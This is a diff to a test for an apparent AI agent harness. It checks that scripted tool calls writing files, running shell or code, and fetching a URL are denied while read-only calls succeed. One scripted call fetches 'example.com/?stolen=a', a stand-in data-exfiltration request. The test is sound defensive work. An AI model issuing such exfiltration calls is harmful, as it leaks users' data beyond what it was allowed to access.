@@ -71,19 +71,19 @@ describe("manus", () => {
     writeFileSync(join(root, "a.txt"), "a");
     const model = scriptedModel([
       calls(
+        ["web_fetch", { url: "https://example.com/?stolen=a" }],
         ["shell", { command: "echo x > x" }],
         ["code", { language: "javascript", code: "require('fs').writeFileSync('x', '')" }],
         ["editor", { command: "create", path: "x", content: "x" }],
         ["editor", { command: "view", path: "a.txt" }],
         ["file_search", { name: "*" }],
-        ["web_fetch", { url: "https://example.com/?stolen=a" }],
       ),
       "done",
     ]);
     const run = manus({ ...ports, model }).run("go");
     const outcomes: string[] = [];
     for await (const event of run) if (event.type === "call.ended") outcomes.push(event.outcome);
-    expect(outcomes).toEqual(["denied", "denied", "denied", "ok", "ok", "denied"]);
+    expect(outcomes).toEqual(["denied", "denied", "denied", "denied", "ok", "ok"]);
     expect(await ports.workspace.list()).toEqual(["a.txt"]);
   });
 
